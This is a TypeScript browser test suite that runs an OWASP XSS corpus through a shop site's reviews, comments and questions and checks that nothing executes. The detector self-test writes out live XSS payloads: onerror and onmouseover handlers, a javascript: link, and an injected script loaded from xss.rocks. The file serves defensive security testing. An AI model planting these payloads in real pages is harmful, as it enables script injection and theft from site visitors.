// The OWASP XSS corpus (XSS_VECTORS, each also rewritten to set a canary) through every path that stores a
// visitor's text — shop reviews, comments on a product, an article and a recipe, questions — and rendered in
// Chromium on the pages that show them: no dialog, no canary, no foreign script or frame, no dangerous markup left.
// Batched here (many vectors per stored item, one page load per path); one vector per stored item is
// `e2e/hard/xss.spec.ts` (`npm run test:hard`). A shop of its own: reviews published at once, and X-Forwarded-For
// trusted so that each simulated visitor has its own IP under the shop's unchanged rate limits.
import { type Browser, chromium } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { hasBrowser } from './support/browser.ts';
import { CHROMIUM_PATH } from './support/global-setup.ts';
import { type RunningShop, startSeededShop } from './support/server.ts';
import {
  batchCases,
  canarySet,
  chunkText,
  exercise,
  findDangerousMarkup,
  type Inspection,
  inspectPage,
  interactAndLetHeldBackCodeRun,
  ipSequence,
  newWatchedPage,
  REFUSED_CORPUS,
  STORABLE_CORPUS,
  storeQuestions,
  storeReplies,
  storeReviews,
  Visitor,
  withCanary,
  XSS_CORPUS,
} from './support/xss.ts';

const ALL_IDS = STORABLE_CORPUS.map((item) => item.id);
const COMMENTED_PAGES = [
  { type: 'product', url: '/bergamot-10-ml.html' },
  { type: 'article', url: '/articles/efirnye-masla-dlya-sna.html' },
  { type: 'recept', url: '/recept/maslyanaya-syvorotka-dlya-lica.html' },
] as const;

/** Several pages of one path as one: a vector is missing only when no page showed it. */
function mergeInspections(results: Inspection[]): Inspection {
  return results.reduce((merged, next) => ({
    touched: merged.touched + next.touched,
    dialogs: [...merged.dialogs, ...next.dialogs],
    canary: merged.canary || next.canary,
    foreignLoads: [...merged.foreignLoads, ...next.foreignLoads],
    frames: [...merged.frames, ...next.frames],
    dangerous: [...merged.dangerous, ...next.dangerous],
    missing: merged.missing.filter((label) => next.missing.includes(label)),
    cspReports: [...merged.cspReports, ...next.cspReports],
    url: next.url,
  }));
}

function expectNoScript(result: Inspection, path: string): void {
  if (result.cspReports.length > 0) {
    console.info(
      `${path}: the CSP blocked ${result.cspReports.length} thing(s), e.g. ${result.cspReports[0]}`,
    );
  }
  expect(result.missing, `${path}: vectors that never reached the page`).toEqual([]);
  expect(result.touched, `${path}: nothing rendered to poke`).toBeGreaterThan(0);
  expect(result.dialogs, `${path}: dialogs`).toEqual([]);
  expect(result.canary, `${path}: canary`).toBe(false);
  expect(result.foreignLoads, `${path}: foreign loads`).toEqual([]);
  expect(result.frames, `${path}: frames`).toEqual([]);
  expect(result.dangerous, `${path}: dangerous markup`).toEqual([]);
}

describe.skipIf(!hasBrowser)(`XSS corpus (${XSS_CORPUS.length} cases) in Chromium`, () => {
  let shop: RunningShop;
  let browser: Browser;
  const nextIp = ipSequence();

  beforeAll(async () => {
    shop = await startSeededShop({ REVIEWS_AUTOPUBLISH: '1', TRUST_PROXY: '1' });
    // A Chromium of its own, driven from this process: the run's shared one (browser.ts) answers through one more
    // hop, and the detectors give a page a fixed 300 ms to show a dialog or a foreign load.
    browser = await chromium.launch({
      executablePath: CHROMIUM_PATH,
      args: ['--no-sandbox', '--disable-gpu', '--disable-background-networking', '--no-first-run'],
    });
  });
  afterAll(async () => {
    await browser?.close();
    await shop?.stop();
  });

  it('has detectors that do see a vector that runs (the markup put in place of the sanitised text)', async () => {
    const { context, page, watch } = await newWatchedPage(browser, shop.url, { bypassCSP: true });
    try {
      await page.goto(`${shop.url}/reviews.html`, { waitUntil: 'networkidle' });
      await interactAndLetHeldBackCodeRun(page);
      await page.evaluate(
        ({ canary }) => {
          const text = document.querySelector('.review__text');
          if (text)
            text.innerHTML = `<img src=x onerror=alert(1)>${canary}<a href="javascript:alert(2)">x</a>`;
          const script = document.createElement('script');
          script.src = 'http://xss.rocks/xss.js';
          document.body.append(script);
        },
        { canary: withCanary('<p onmouseover="alert(3)">x</p>') },
      );
      await exercise(page, '.review__text');
      expect(watch.dialogs).toEqual(expect.arrayContaining(['alert: 1', 'alert: 2', 'alert: 3']));
      expect(await canarySet(page)).toBe(true);
      expect(watch.foreignLoads).toEqual(['script: http://xss.rocks/xss.js']);
      expect(await findDangerousMarkup(page, '.review__text')).toEqual(
        expect.arrayContaining(['img[onerror]', 'p[onmouseover]', 'a[href=javascript:alert(2)]']),
      );
    } finally {
      await context.close();
    }
  });

  it('refuses the vectors that carry a NUL character at the door', async () => {
    expect(REFUSED_CORPUS.length).toBeGreaterThan(0);
    const visitor = new Visitor(shop.url, nextIp());
    await visitor.register('Тестировщик');
    for (const item of REFUSED_CORPUS) {
      const review = { name: 'Проверка', rating: 5, text: `<p>Вектор с нулём</p>${item.html}`, website: '' };
      expect((await visitor.call('POST', '/api/v1/review', review)).status, item.id).toBe(400);
      const question = { text: `Вектор с нулём: ${item.html}` };
      expect((await visitor.call('POST', '/v1/user/question', question)).status, item.id).toBe(400);
    }
  });

  it('in shop reviews on /reviews', async () => {
    const reviews = batchCases(STORABLE_CORPUS, 12_000);
    await storeReviews(shop.url, nextIp, reviews);
    // Newest first, ten to a page: ours fill the first pages.
    const pages = Array.from({ length: Math.ceil(reviews.length / 10) }, (_, index) => index + 1);
    const results: Inspection[] = [];
    for (const page of pages) {
      results.push(
        await inspectPage(browser, shop.url, `/reviews.html?page=${page}`, '.review__text', ALL_IDS),
      );
    }
    expectNoScript(mergeInspections(results), 'reviews');
  });

  for (const { type, url } of COMMENTED_PAGES) {
    it(`in comments on the ${type} page`, async () => {
      await storeReplies(shop.url, nextIp, url, batchCases(STORABLE_CORPUS, 6_000), type);
      expectNoScript(await inspectPage(browser, shop.url, url, '#comments .comment__text', ALL_IDS), url);
    });
  }

  it('in questions on /my-question', async () => {
    const askers = await storeQuestions(shop.url, nextIp, chunkText(STORABLE_CORPUS, 2_000));
    for (const [index, { asker, questions }] of askers.entries()) {
      const ids = ALL_IDS.filter((id) => questions.some((text) => text.includes(`«${id}»`)));
      const result = await inspectPage(browser, shop.url, '/my-question', '.question__text', ids, asker);
      expectNoScript(result, `questions of asker ${index + 1}`);
    }
  });
});
